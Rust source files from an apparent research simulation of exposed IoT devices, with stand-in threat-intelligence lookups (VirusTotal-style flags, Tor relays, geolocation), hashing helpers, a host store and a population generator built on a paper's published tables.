//! The paper uses VirusTotal three ways: (a) Fig. 6 — the share of honeypot/
//! telescope attack sources flagged malicious by ≥1 vendor, per protocol;
//! (b) §5.3 — all 11,118 infected misconfigured devices were flagged by at
//! least one vendor; (c) Table 13 — pcap-extracted binaries identified by
//! hash. The oracle models a vendor panel: each ingested indicator receives
//! a deterministic number of vendor positives, with imperfect coverage
//! (freshly-infected hosts may not be flagged yet).

use std::collections::HashMap;
use std::net::Ipv4Addr;

use rand::Rng;

/// Number of simulated AV vendors on the panel.
pub const VENDOR_PANEL: u32 = 70;

/// The VirusTotal database oracle.
#[derive(Debug, Clone, Default)]
pub struct VirusTotalDb {
    ips: HashMap<Ipv4Addr, u32>,
    urls: HashMap<String, u32>,
    file_hashes: HashMap<String, u32>,
}

impl VirusTotalDb {
    pub fn new() -> Self {
        Self::default()
    }

    /// Ingest a ground-truth malicious IP. `coverage` is the probability any
    /// vendor has flagged it; if flagged, the positive count is 1..=20.
    pub fn ingest_ip(&mut self, rng: &mut impl Rng, addr: Ipv4Addr, coverage: f64) {
        if rng.gen_bool(coverage.clamp(0.0, 1.0)) {
            let positives = rng.gen_range(1..=20);
            self.ips.insert(addr, positives);
        }
    }

    /// Ingest a known-malicious URL (the paper found 346 of 427 webpages
    /// flagged).
    pub fn ingest_url(&mut self, rng: &mut impl Rng, url: &str, coverage: f64) {
        if rng.gen_bool(coverage.clamp(0.0, 1.0)) {
            let positives = rng.gen_range(1..=30);
            self.urls.insert(url.to_string(), positives);
        }
    }

    /// Register a malware sample hash; file hashes have essentially full
    /// vendor coverage once the sample circulates.
    pub fn ingest_file_hash(&mut self, rng: &mut impl Rng, sha256_hex: &str) {
        let positives = rng.gen_range(25..=60);
        self.file_hashes.insert(sha256_hex.to_string(), positives);
    }

    /// Positive score for an IP (0 = clean or unknown).
    pub fn ip_positives(&self, addr: Ipv4Addr) -> u32 {
        self.ips.get(&addr).copied().unwrap_or(0)
    }

    /// The paper's criterion: "we consider the IP to be a malicious actor if
    /// there is at least one security vendor to label them as malicious".
    pub fn ip_is_malicious(&self, addr: Ipv4Addr) -> bool {
        self.ip_positives(addr) >= 1
    }

    pub fn url_positives(&self, url: &str) -> u32 {
        self.urls.get(url).copied().unwrap_or(0)
    }

    pub fn url_is_malicious(&self, url: &str) -> bool {
        self.url_positives(url) >= 1
    }

    pub fn hash_positives(&self, sha256_hex: &str) -> u32 {
        self.file_hashes.get(sha256_hex).copied().unwrap_or(0)
    }

    pub fn hash_is_malicious(&self, sha256_hex: &str) -> bool {
        self.hash_positives(sha256_hex) >= 1
    }

    pub fn flagged_ip_count(&self) -> usize {
        self.ips.len()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use ofh_net::rng::rng_for;

    #[test]
    fn ip_flags() {
        let mut db = VirusTotalDb::new();
        let mut rng = rng_for(3, "vt");
        let addr: Ipv4Addr = "203.0.113.9".parse().unwrap();
        db.ingest_ip(&mut rng, addr, 1.0);
        assert!(db.ip_is_malicious(addr));
        assert!(db.ip_positives(addr) >= 1);
        assert!(!db.ip_is_malicious("203.0.113.10".parse().unwrap()));
    }

    #[test]
    fn partial_coverage() {
        let mut db = VirusTotalDb::new();
        let mut rng = rng_for(3, "vt");
        for i in 0..1000u32 {
            db.ingest_ip(&mut rng, Ipv4Addr::from(i), 0.6);
        }
        let n = db.flagged_ip_count();
        assert!(n > 450 && n < 750, "got {n}");
    }

    #[test]
    fn url_and_hash_lookup() {
        let mut db = VirusTotalDb::new();
        let mut rng = rng_for(3, "vt");
        db.ingest_url(&mut rng, "http://restaurant.example.co.uk/bot.sh", 1.0);
        assert!(db.url_is_malicious("http://restaurant.example.co.uk/bot.sh"));
        assert!(!db.url_is_malicious("http://example.org/"));
        db.ingest_file_hash(&mut rng, "deadbeef");
        assert!(db.hash_positives("deadbeef") >= 25);
        assert!(!db.hash_is_malicious("cafebabe"));
    }
}
