//! ExoneraTor stand-in: "was this IP a Tor relay?"
//!
//! §5.1.6: reverse lookups of HTTP attack sources through the ExoneraTor
//! service identified 151 unique IPs originating from Tor relays, with a
//! daily recurring scan pattern. The oracle is a plain set of relay IPs,
//! populated when the attack population is generated.

use std::collections::HashSet;
use std::net::Ipv4Addr;

/// The Tor-relay membership oracle.
#[derive(Debug, Clone, Default)]
pub struct Exonerator {
    relays: HashSet<Ipv4Addr>,
}

impl Exonerator {
    pub fn new() -> Self {
        Self::default()
    }

    pub fn add_relay(&mut self, addr: Ipv4Addr) {
        self.relays.insert(addr);
    }

    /// Whether `addr` was a Tor relay during the measurement window.
    pub fn was_relay(&self, addr: Ipv4Addr) -> bool {
        self.relays.contains(&addr)
    }

    pub fn relay_count(&self) -> usize {
        self.relays.len()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn membership() {
        let mut db = Exonerator::new();
        db.add_relay("185.220.101.1".parse().unwrap());
        assert!(db.was_relay("185.220.101.1".parse().unwrap()));
        assert!(!db.was_relay("8.8.8.8".parse().unwrap()));
        assert_eq!(db.relay_count(), 1);
    }
}
