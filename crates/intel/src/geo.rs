//! IP geolocation — the `ipgeolocation.io` stand-in.
//!
//! Table 10 breaks the 1.8M misconfigured devices down by country (USA 27%,
//! China 13%, Russia 9.1%, …) and FlowTuple records carry country code and
//! ASN. The simulation assigns each /16-aligned allocation to a country+ASN
//! when the population is generated; [`GeoDb`] answers lookups from those
//! allocations, so the analysis pipeline resolves countries the same way the
//! paper does (by database lookup, not by asking the device).

use std::fmt;
use std::net::Ipv4Addr;

use serde::{Deserialize, Serialize};

/// Countries reported in the paper's Table 10, plus `Other`.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
pub enum Country {
    Usa,
    China,
    Russia,
    Taiwan,
    Germany,
    Philippines,
    Uk,
    Brazil,
    India,
    Thailand,
    HongKong,
    SouthKorea,
    Israel,
    Canada,
    Bangladesh,
    France,
    Japan,
    Italy,
    Other,
}

impl Country {
    /// ISO 3166-1 alpha-2 code (as FlowTuple records it).
    pub const fn code(self) -> &'static str {
        match self {
            Country::Usa => "US",
            Country::China => "CN",
            Country::Russia => "RU",
            Country::Taiwan => "TW",
            Country::Germany => "DE",
            Country::Philippines => "PH",
            Country::Uk => "GB",
            Country::Brazil => "BR",
            Country::India => "IN",
            Country::Thailand => "TH",
            Country::HongKong => "HK",
            Country::SouthKorea => "KR",
            Country::Israel => "IL",
            Country::Canada => "CA",
            Country::Bangladesh => "BD",
            Country::France => "FR",
            Country::Japan => "JP",
            Country::Italy => "IT",
            Country::Other => "--",
        }
    }

    /// Display name used in Table 10.
    pub const fn name(self) -> &'static str {
        match self {
            Country::Usa => "USA",
            Country::China => "China",
            Country::Russia => "Russia",
            Country::Taiwan => "Taiwan",
            Country::Germany => "Germany",
            Country::Philippines => "Philippines",
            Country::Uk => "UK",
            Country::Brazil => "Brazil",
            Country::India => "India",
            Country::Thailand => "Thailand",
            Country::HongKong => "Hong Kong",
            Country::SouthKorea => "South Korea",
            Country::Israel => "Israel",
            Country::Canada => "Canada",
            Country::Bangladesh => "Bangladesh",
            Country::France => "France",
            Country::Japan => "Japan",
            Country::Italy => "Italy",
            Country::Other => "Other countries",
        }
    }

    /// All named countries (excluding `Other`), in Table 10 order.
    pub const TABLE10: [Country; 17] = [
        Country::Usa,
        Country::China,
        Country::Russia,
        Country::Taiwan,
        Country::Germany,
        Country::Philippines,
        Country::Uk,
        Country::Brazil,
        Country::India,
        Country::Thailand,
        Country::HongKong,
        Country::SouthKorea,
        Country::Israel,
        Country::Canada,
        Country::Bangladesh,
        Country::France,
        Country::Japan,
    ];

    /// The paper's Table 10 population shares (fractions summing to ~1.0,
    /// with `Other` absorbing the remainder). Used by the population builder
    /// to place devices, and by EXPERIMENTS.md as the expected baseline.
    pub const fn table10_share(self) -> f64 {
        match self {
            Country::Usa => 0.27,
            Country::China => 0.13,
            Country::Russia => 0.091,
            Country::Taiwan => 0.089,
            Country::Germany => 0.078,
            Country::Philippines => 0.062,
            Country::Uk => 0.058,
            Country::Brazil => 0.033,
            Country::India => 0.032,
            Country::Thailand => 0.027,
            Country::HongKong => 0.025,
            Country::SouthKorea => 0.025,
            Country::Israel => 0.021,
            Country::Canada => 0.019,
            Country::Bangladesh => 0.011,
            Country::France => 0.009,
            Country::Japan => 0.007,
            Country::Italy => 0.0,
            Country::Other => 0.013,
        }
    }
}

impl fmt::Display for Country {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.name())
    }
}

/// An address-to-(country, ASN) database built from prefix-aligned
/// allocations.
///
/// Allocation at fixed prefix granularity (default /16, the typical RIR
/// allocation grain) keeps lookups O(1): the upper `prefix_len` bits index a
/// sparse map. Small test universes can use finer grains (e.g. /24).
#[derive(Debug, Clone)]
pub struct GeoDb {
    prefix_len: u8,
    slots: std::collections::HashMap<u32, (Country, u32)>,
}

impl Default for GeoDb {
    fn default() -> Self {
        Self::new()
    }
}

impl GeoDb {
    /// A /16-granular database (the real-world default).
    pub fn new() -> Self {
        Self::with_prefix(16)
    }

    /// A database whose allocations are /`prefix_len` blocks.
    pub fn with_prefix(prefix_len: u8) -> Self {
        assert!((1..=32).contains(&prefix_len));
        GeoDb {
            prefix_len,
            slots: std::collections::HashMap::new(),
        }
    }

    fn key(&self, addr: Ipv4Addr) -> u32 {
        u32::from(addr) >> (32 - self.prefix_len)
    }

    /// The allocation granularity in prefix bits.
    pub fn prefix_len(&self) -> u8 {
        self.prefix_len
    }

    /// Register the block containing `addr` as belonging to `country`/`asn`.
    pub fn allocate_block(&mut self, addr: Ipv4Addr, country: Country, asn: u32) {
        let key = self.key(addr);
        self.slots.insert(key, (country, asn));
    }

    /// Register the /16 containing `addr` (panics unless the database uses
    /// /16 granularity; kept as the common-case named API).
    pub fn allocate_slash16(&mut self, addr: Ipv4Addr, country: Country, asn: u32) {
        assert_eq!(self.prefix_len, 16, "database granularity is not /16");
        self.allocate_block(addr, country, asn);
    }

    pub fn country_of(&self, addr: Ipv4Addr) -> Country {
        self.slots
            .get(&self.key(addr))
            .map(|&(c, _)| c)
            .unwrap_or(Country::Other)
    }

    pub fn asn_of(&self, addr: Ipv4Addr) -> Option<u32> {
        self.slots.get(&self.key(addr)).map(|&(_, a)| a)
    }

    /// Number of allocated blocks.
    pub fn allocated(&self) -> usize {
        self.slots.len()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn shares_sum_to_one() {
        let total: f64 = Country::TABLE10
            .iter()
            .map(|c| c.table10_share())
            .sum::<f64>()
            + Country::Other.table10_share();
        assert!((total - 1.0).abs() < 1e-9, "shares sum to {total}");
    }

    #[test]
    fn table10_ordering_matches_paper() {
        // Shares must be non-increasing in Table 10 order (USA first).
        let shares: Vec<f64> = Country::TABLE10.iter().map(|c| c.table10_share()).collect();
        assert!(shares.windows(2).all(|w| w[0] >= w[1]));
        assert_eq!(Country::TABLE10[0], Country::Usa);
    }

    #[test]
    fn geodb_lookup() {
        let mut db = GeoDb::new();
        db.allocate_slash16("100.64.0.0".parse().unwrap(), Country::Germany, 3320);
        assert_eq!(db.country_of("100.64.7.9".parse().unwrap()), Country::Germany);
        assert_eq!(db.asn_of("100.64.7.9".parse().unwrap()), Some(3320));
        assert_eq!(db.country_of("100.65.0.1".parse().unwrap()), Country::Other);
        assert_eq!(db.asn_of("100.65.0.1".parse().unwrap()), None);
        assert_eq!(db.allocated(), 1);
    }

    #[test]
    fn codes_are_unique() {
        let mut codes: Vec<&str> = Country::TABLE10.iter().map(|c| c.code()).collect();
        codes.sort_unstable();
        codes.dedup();
        assert_eq!(codes.len(), Country::TABLE10.len());
    }
}
