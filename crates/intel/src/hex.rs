//! Lowercase-hex helpers for digests (Table 13 prints SHA-256 hashes in hex).

/// Encode bytes as lowercase hex.
pub fn to_hex(bytes: &[u8]) -> String {
    let mut s = String::with_capacity(bytes.len() * 2);
    for b in bytes {
        s.push(char::from_digit((b >> 4) as u32, 16).unwrap());
        s.push(char::from_digit((b & 0xF) as u32, 16).unwrap());
    }
    s
}

/// Decode a hex string (case-insensitive). `None` on odd length or non-hex.
pub fn from_hex(s: &str) -> Option<Vec<u8>> {
    if s.len() % 2 != 0 {
        return None;
    }
    let b = s.as_bytes();
    let mut out = Vec::with_capacity(s.len() / 2);
    for pair in b.chunks(2) {
        let hi = (pair[0] as char).to_digit(16)?;
        let lo = (pair[1] as char).to_digit(16)?;
        out.push(((hi << 4) | lo) as u8);
    }
    Some(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn roundtrip() {
        let data = vec![0x00, 0x7F, 0x80, 0xFF, 0xDE, 0xAD];
        assert_eq!(to_hex(&data), "007f80ffdead");
        assert_eq!(from_hex("007f80ffDEAD").unwrap(), data);
    }

    #[test]
    fn rejects_bad_input() {
        assert!(from_hex("abc").is_none());
        assert!(from_hex("zz").is_none());
        assert_eq!(from_hex("").unwrap(), Vec::<u8>::new());
    }
}
