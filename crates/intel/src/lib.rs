//! # ofh-intel — threat intelligence oracles and cryptographic substrate
//!
//! The paper validates its classifications against external services:
//! GreyNoise (benign/malicious/unknown source labels, Fig. 5), VirusTotal
//! (malicious flags on IPs/URLs/file hashes, Fig. 6 and Table 13), Censys
//! ("iot" device tags, §5.3), an IP-geolocation database (Table 10), reverse
//! DNS (§5.3) and the Tor ExoneraTor service (§5.1.6). None of those
//! services can be queried in a reproduction, so this crate implements them
//! as **oracles populated from the simulation's own ground truth with
//! imperfect, deterministic coverage** — the comparisons in Figs. 5/6 stay
//! meaningful precisely because the oracles do *not* know everything.
//!
//! It also provides the cryptographic substrate: a from-scratch FIPS 180-4
//! SHA-256 (tested against NIST vectors) used to fingerprint captured
//! malware payloads exactly as the paper's Table 13 does, and a deterministic
//! malware registry that synthesizes the dropper binaries the botnets deploy.

pub mod censys;
pub mod exonerator;
pub mod geo;
pub mod greynoise;
pub mod hex;
pub mod malware;
pub mod rdns;
pub mod sha256;
pub mod virustotal;

pub use censys::CensysDb;
pub use exonerator::Exonerator;
pub use geo::{Country, GeoDb};
pub use greynoise::{GreyNoiseDb, GreyNoiseLabel};
pub use malware::{MalwareFamily, MalwareRegistry, MalwareSample};
pub use rdns::ReverseDns;
pub use sha256::{sha256, Sha256};
pub use virustotal::VirusTotalDb;
