//! Property tests for the crypto substrate.

use ofh_intel::hex::{from_hex, to_hex};
use ofh_intel::sha256::{sha256, Sha256};
use proptest::prelude::*;

proptest! {
    /// Hex encode/decode is a bijection.
    #[test]
    fn hex_roundtrip(data in prop::collection::vec(any::<u8>(), 0..256)) {
        prop_assert_eq!(from_hex(&to_hex(&data)).unwrap(), data);
    }

    /// Streaming SHA-256 with arbitrary chunking equals the one-shot digest.
    #[test]
    fn sha256_chunking_invariant(
        data in prop::collection::vec(any::<u8>(), 0..2048),
        cuts in prop::collection::vec(any::<prop::sample::Index>(), 0..8),
    ) {
        let mut positions: Vec<usize> = cuts.iter().map(|c| c.index(data.len() + 1)).collect();
        positions.sort_unstable();
        positions.dedup();
        let mut h = Sha256::new();
        let mut prev = 0;
        for &p in &positions {
            h.update(&data[prev..p]);
            prev = p;
        }
        h.update(&data[prev..]);
        prop_assert_eq!(h.finalize(), sha256(&data));
    }

    /// Distinct inputs (almost surely) produce distinct digests; identical
    /// inputs always produce identical digests.
    #[test]
    fn sha256_deterministic(data in prop::collection::vec(any::<u8>(), 0..512)) {
        prop_assert_eq!(sha256(&data), sha256(&data));
        let mut tweaked = data.clone();
        tweaked.push(0x55);
        prop_assert_ne!(sha256(&tweaked), sha256(&data));
    }
}
