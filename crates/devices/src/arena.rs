//! Struct-of-arrays storage for a streaming (first-touch) device population.
//!
//! At paper scale the universe holds millions of occupied addresses. Keeping
//! a boxed agent per host from the start of the simulation means millions of
//! heap allocations before the first packet flies — and most of that state is
//! untouched until a scanner or attacker actually reaches the address. A
//! [`HostArena`] instead keeps the *generation ground truth* (everything a
//! [`DeviceRecord`] holds) in parallel column vectors sorted by address:
//!
//! * occupancy is a binary search over one dense `u32` column — the only
//!   column the hot occupancy path ever touches, so it stays cache-resident;
//! * per-host agents are built on demand ([`HostArena::build_agent`]) when a
//!   packet first arrives, which is exactly the `HostSpawner` contract in
//!   `ofh_net` — generation is a pure function of the stored columns, so
//!   first-touch order cannot change what spawns;
//! * the columns are plain `Copy` data (`&'static` profile/credential refs,
//!   small enums): cloning a shard's slice of the arena is a handful of
//!   memcpys, no deep clones.
//!
//! The arena never learns *which* hosts were touched — that bookkeeping lives
//! in the fabric (`SimNet::materialized_count`), keeping the arena read-only
//! and shareable after construction.

use std::net::Ipv4Addr;

use ofh_intel::Country;
use ofh_net::Agent;
use ofh_wire::Protocol;

use crate::credentials::CredentialEntry;
use crate::misconfig::Misconfig;
use crate::population::DeviceRecord;
use crate::profiles::DeviceProfile;

/// Sorted struct-of-arrays store of device records, indexed by address.
#[derive(Debug, Clone, Default)]
pub struct HostArena {
    /// Sorted, deduplicated host addresses — the search column.
    addrs: Vec<u32>,
    protocols: Vec<Protocol>,
    misconfigs: Vec<Option<Misconfig>>,
    countries: Vec<Country>,
    ports: Vec<u16>,
    profiles: Vec<Option<&'static DeviceProfile>>,
    creds: Vec<Option<&'static CredentialEntry>>,
}

impl HostArena {
    /// Build an arena from every record accepted by `keep`, sorted by
    /// address. Input order is irrelevant: two arenas built from the same
    /// record set are identical columns.
    pub fn from_records<'a>(
        records: impl IntoIterator<Item = &'a DeviceRecord>,
        mut keep: impl FnMut(&DeviceRecord) -> bool,
    ) -> HostArena {
        let mut picked: Vec<&DeviceRecord> = records.into_iter().filter(|r| keep(r)).collect();
        picked.sort_by_key(|r| u32::from(r.addr));
        let mut arena = HostArena::default();
        for r in picked {
            debug_assert!(
                arena.addrs.last() != Some(&u32::from(r.addr)),
                "duplicate host address {}",
                r.addr
            );
            arena.addrs.push(u32::from(r.addr));
            arena.protocols.push(r.protocol);
            arena.misconfigs.push(r.misconfig);
            arena.countries.push(r.country);
            arena.ports.push(r.port);
            arena.profiles.push(r.profile);
            arena.creds.push(r.default_creds);
        }
        arena
    }

    /// Number of hosts stored.
    pub fn len(&self) -> usize {
        self.addrs.len()
    }

    pub fn is_empty(&self) -> bool {
        self.addrs.is_empty()
    }

    /// Arena slot for `addr`, if occupied. One binary search over the dense
    /// address column — this is the occupancy hot path.
    #[inline]
    pub fn lookup(&self, addr: Ipv4Addr) -> Option<usize> {
        self.addrs.binary_search(&u32::from(addr)).ok()
    }

    /// Whether `addr` is an arena host.
    #[inline]
    pub fn contains(&self, addr: Ipv4Addr) -> bool {
        self.lookup(addr).is_some()
    }

    /// Reassemble the full record stored at `slot` (columns → struct).
    pub fn record(&self, slot: usize) -> DeviceRecord {
        DeviceRecord {
            addr: Ipv4Addr::from(self.addrs[slot]),
            protocol: self.protocols[slot],
            profile: self.profiles[slot],
            misconfig: self.misconfigs[slot],
            country: self.countries[slot],
            port: self.ports[slot],
            default_creds: self.creds[slot],
        }
    }

    /// Instantiate the behavioural agent for `slot`. Pure function of the
    /// stored columns: calling it twice (or in two different simulations)
    /// yields agents with identical behaviour.
    pub fn build_agent(&self, slot: usize) -> Box<dyn Agent> {
        self.record(slot).build_agent()
    }

    /// Iterate the stored addresses in ascending order.
    pub fn addrs(&self) -> impl Iterator<Item = Ipv4Addr> + '_ {
        self.addrs.iter().map(|&a| Ipv4Addr::from(a))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::population::{PopulationBuilder, PopulationSpec};
    use crate::universe::Universe;

    fn test_pop() -> crate::population::Population {
        PopulationBuilder::new(PopulationSpec {
            universe: Universe::new(Ipv4Addr::new(16, 0, 0, 0), 16),
            scale: 8_192,
            seed: 11,
        })
        .build()
    }

    #[test]
    fn arena_round_trips_every_record() {
        let pop = test_pop();
        let arena = HostArena::from_records(&pop.records, |_| true);
        assert_eq!(arena.len(), pop.records.len());
        for r in &pop.records {
            let slot = arena.lookup(r.addr).expect("record address present");
            assert_eq!(&arena.record(slot), r, "{}", r.addr);
        }
    }

    #[test]
    fn build_is_order_independent() {
        let pop = test_pop();
        let forward = HostArena::from_records(&pop.records, |_| true);
        let reversed: Vec<&DeviceRecord> = pop.records.iter().rev().collect();
        let backward = HostArena::from_records(reversed.into_iter(), |_| true);
        assert_eq!(forward.addrs, backward.addrs);
        for slot in 0..forward.len() {
            assert_eq!(forward.record(slot), backward.record(slot));
        }
    }

    #[test]
    fn first_touch_generation_is_idempotent() {
        // The spawner contract: what materializes for an address must depend
        // only on the address, never on touch order or repetition.
        let pop = test_pop();
        let arena = HostArena::from_records(&pop.records, |_| true);
        let addr = pop.records[pop.records.len() / 2].addr;
        let slot = arena.lookup(addr).unwrap();
        assert_eq!(arena.record(slot), arena.record(slot));
        // Agents build without panicking, twice.
        let _ = arena.build_agent(slot);
        let _ = arena.build_agent(slot);
    }

    #[test]
    fn filter_partitions_exactly() {
        // Shard-style split: two complementary filters cover the population
        // with no overlap and no loss.
        let pop = test_pop();
        let even = HostArena::from_records(&pop.records, |r| u32::from(r.addr) % 2 == 0);
        let odd = HostArena::from_records(&pop.records, |r| u32::from(r.addr) % 2 == 1);
        assert_eq!(even.len() + odd.len(), pop.records.len());
        for r in &pop.records {
            assert!(
                even.contains(r.addr) ^ odd.contains(r.addr),
                "{} must live in exactly one partition",
                r.addr
            );
        }
    }

    #[test]
    fn misses_are_clean() {
        let pop = test_pop();
        let arena = HostArena::from_records(&pop.records, |_| true);
        assert!(!arena.contains(Ipv4Addr::new(15, 255, 255, 255)));
        assert!(arena.lookup(Ipv4Addr::new(17, 0, 0, 0)).is_none());
        let empty = HostArena::from_records(&pop.records, |_| false);
        assert!(empty.is_empty());
        assert!(!empty.contains(pop.records[0].addr));
    }
}
