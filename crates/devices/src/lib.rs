//! # ofh-devices — the simulated IoT device population
//!
//! The paper measures the *real* Internet's IoT population; this crate
//! synthesizes the closest measurable equivalent. It provides:
//!
//! * [`profiles`] — the device-profile catalog of Appendix Table 11
//!   (HiKVision cameras, ZyXEL DSL modems, Philips Hue bridges, …), each with
//!   the banner/response text the paper identifies it by;
//! * [`misconfig`] — the misconfiguration taxonomy of Tables 2/3/5 with the
//!   paper's per-class device counts;
//! * [`credentials`] — the default-credential dictionary of Appendix
//!   Table 12 (what Mirai-style bots brute-force with, and what weakly
//!   configured devices accept);
//! * [`endpoints`] — behavioural device agents: a misconfigured MQTT broker
//!   really answers `CONNACK 0`, a CoAP node really serves
//!   `/.well-known/core`, an SSDP stack really discloses its root device —
//!   all in real protocol bytes via `ofh-wire`;
//! * [`universe`] — the scaled address plan (population region, telescope
//!   dark space sized at exactly 1/256 of the universe like the UCSD /8,
//!   infrastructure and attacker pools);
//! * [`population`] — the generator that places devices into the universe
//!   following the paper's published marginals (Tables 4, 5, 10, Fig. 2).
//!
//! **Measurement honesty.** The generator's output (`Vec<DeviceRecord>`) is
//! ground truth used to *instantiate agents and oracles only*. The analysis
//! pipeline never reads it; every reported number is re-measured from
//! network interactions.

pub mod arena;
pub mod credentials;
pub mod endpoints;
pub mod misconfig;
pub mod population;
pub mod profiles;
pub mod types;
pub mod universe;

pub use arena::HostArena;
pub use misconfig::Misconfig;
pub use population::{DeviceRecord, PopulationBuilder, PopulationSpec};
pub use profiles::{DeviceProfile, PROFILES};
pub use types::DeviceType;
pub use universe::Universe;
