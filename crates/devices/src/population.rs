//! Population synthesis.
//!
//! Generates the simulated Internet's IoT population from the paper's
//! published marginals, scaled by a configurable factor:
//!
//! * per-protocol **exposed** host counts — Table 4's ZMap column;
//! * per-class **misconfigured** counts — Table 5;
//! * **country** distribution — Table 10 (devices are placed in
//!   country-allocated address blocks registered in a [`GeoDb`]);
//! * **device types** — profiles from Appendix Table 11, weight-sampled;
//! * **alternate ports** — ~15% of Telnet devices listen only on 2323
//!   (exactly the hosts Project Sonar's port-23-only scan misses, the
//!   mechanism behind Table 4's ZMap-vs-Sonar delta);
//! * **default credentials** — a slice of configured Telnet devices accept
//!   Table 12 entries (the bot-infectable weak population).
//!
//! The builder's [`DeviceRecord`]s are generation ground truth; the analysis
//! pipeline re-measures everything over the network.

use std::net::Ipv4Addr;

use ofh_intel::{Country, GeoDb};
use ofh_net::rng::rng_for;
use ofh_net::{Agent, SimNet};
use ofh_wire::ssdp::DeviceDescription;
use ofh_wire::{ports, Protocol};
use rand::seq::SliceRandom;
use rand::Rng;
use serde::{Deserialize, Serialize};

use crate::credentials::{dictionary_for, CredentialEntry};
use crate::endpoints::{AmqpDevice, CoapDevice, MqttDevice, TelnetDevice, UpnpDevice, XmppDevice};
use crate::misconfig::Misconfig;
use crate::profiles::{profiles_for, DeviceProfile};
use crate::universe::Universe;

/// Paper Table 4, ZMap column: exposed hosts per protocol.
pub const fn paper_exposed(protocol: Protocol) -> u64 {
    match protocol {
        Protocol::Amqp => 34_542,
        Protocol::Xmpp => 423_867,
        Protocol::Coap => 618_650,
        Protocol::Upnp => 1_381_940,
        Protocol::Mqtt => 4_842_465,
        Protocol::Telnet => 7_096_465,
        _ => 0,
    }
}

/// Fraction of Telnet devices listening only on 2323 (derived from Table 4:
/// Sonar, scanning only port 23, sees 6,004,956 of ZMap's 7,096,465).
pub const TELNET_ALT_PORT_FRACTION: f64 = 0.154;

/// Fraction of configured Telnet devices that accept a Table 12 default
/// credential (the weak, bot-infectable population).
pub const DEFAULT_CRED_FRACTION: f64 = 0.05;

/// Specification for a synthetic population.
#[derive(Debug, Clone, Copy, PartialEq, Serialize, Deserialize)]
pub struct PopulationSpec {
    pub universe: Universe,
    /// Divide every paper count by this factor (1 = full paper scale).
    pub scale: u64,
    pub seed: u64,
}

impl PopulationSpec {
    /// A paper count scaled down, rounded, but never rounding a non-zero
    /// class out of existence (small Table 5 cells must stay visible).
    pub fn scaled(&self, paper: u64) -> u64 {
        if paper == 0 {
            return 0;
        }
        ((paper + self.scale / 2) / self.scale).max(1)
    }
}

/// One generated device (generation ground truth).
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct DeviceRecord {
    pub addr: Ipv4Addr,
    pub protocol: Protocol,
    /// Identified profile, when the device is one of Table 11's models.
    #[serde(skip)]
    pub profile: Option<&'static DeviceProfile>,
    pub misconfig: Option<Misconfig>,
    pub country: Country,
    /// Listening port (Telnet devices may use 2323).
    pub port: u16,
    /// Default credentials the device accepts, if weakly configured.
    #[serde(skip)]
    pub default_creds: Option<&'static CredentialEntry>,
}

/// Per-country address allocator over the population region.
#[derive(Debug, Clone)]
pub struct CountryAllocator {
    /// (first address, length) chunks per country index.
    chunks: Vec<Vec<(u32, u32)>>,
    cursors: Vec<(usize, u32)>,
    countries: Vec<Country>,
}

impl CountryAllocator {
    fn index_of(&self, country: Country) -> Option<usize> {
        self.countries.iter().position(|&c| c == country)
    }

    /// Allocate the next free address in `country`'s space.
    pub fn alloc(&mut self, country: Country) -> Option<Ipv4Addr> {
        let ci = self.index_of(country)?;
        loop {
            let (chunk_idx, offset) = self.cursors[ci];
            let chunk = *self.chunks[ci].get(chunk_idx)?;
            if offset < chunk.1 {
                self.cursors[ci] = (chunk_idx, offset + 1);
                return Some(Ipv4Addr::from(chunk.0 + offset));
            }
            self.cursors[ci] = (chunk_idx + 1, 0);
        }
    }

    /// Allocate in a country chosen by Table 10 weights.
    pub fn alloc_weighted(&mut self, rng: &mut impl Rng) -> Option<(Ipv4Addr, Country)> {
        let country = sample_country(rng);
        // Fall back to any country with space if the sampled one is full.
        if let Some(addr) = self.alloc(country) {
            return Some((addr, country));
        }
        for &c in &self.countries.clone() {
            if let Some(addr) = self.alloc(c) {
                return Some((addr, c));
            }
        }
        None
    }
}

/// Sample a country by Table 10 share.
pub fn sample_country(rng: &mut impl Rng) -> Country {
    let mut x: f64 = rng.gen();
    for c in Country::TABLE10 {
        let s = c.table10_share();
        if x < s {
            return c;
        }
        x -= s;
    }
    Country::Other
}

/// The generated population.
pub struct Population {
    pub spec: PopulationSpec,
    pub records: Vec<DeviceRecord>,
    pub geo: GeoDb,
    /// Allocator for placing additional residents (wild honeypots, dedicated
    /// attacker hosts needing in-population addresses).
    pub allocator: CountryAllocator,
}

/// Builder for [`Population`].
pub struct PopulationBuilder {
    spec: PopulationSpec,
}

impl PopulationBuilder {
    pub fn new(spec: PopulationSpec) -> Self {
        PopulationBuilder { spec }
    }

    /// Generate the population.
    pub fn build(self) -> Population {
        let spec = self.spec;
        let mut rng = rng_for(spec.seed, "population");
        let (pop_base, pop_len) = spec.universe.population_space();

        // ---- Carve the population region into country chunks ----
        // Chunk granularity: /24 for small universes, /16 for IPv4-scale.
        let chunk_prefix: u8 = if spec.universe.bits <= 26 { 24 } else { 16 };
        let chunk_size: u32 = 1u32 << (32 - chunk_prefix);
        let n_chunks = (pop_len / chunk_size as u64) as usize;
        assert!(
            n_chunks >= 32,
            "population region too small for country allocation ({n_chunks} chunks)"
        );

        let mut geo = GeoDb::with_prefix(chunk_prefix);
        let mut countries: Vec<Country> = Country::TABLE10.to_vec();
        countries.push(Country::Other);
        let mut chunks: Vec<Vec<(u32, u32)>> = vec![Vec::new(); countries.len()];

        // Assign chunks to countries proportionally to Table 10 shares, with
        // a shuffled order so countries are interleaved across the region.
        let mut order: Vec<usize> = (0..n_chunks).collect();
        order.shuffle(&mut rng);
        let base_u = u32::from(pop_base);
        for (rank, &chunk_idx) in order.iter().enumerate() {
            let frac = rank as f64 / n_chunks as f64;
            let country_idx = country_for_fraction(frac, &countries);
            let first = base_u + chunk_idx as u32 * chunk_size;
            chunks[country_idx].push((first, chunk_size));
            geo.allocate_block(
                Ipv4Addr::from(first),
                countries[country_idx],
                64_500 + (chunk_idx % 500) as u32,
            );
        }
        let cursors = vec![(0usize, 0u32); countries.len()];
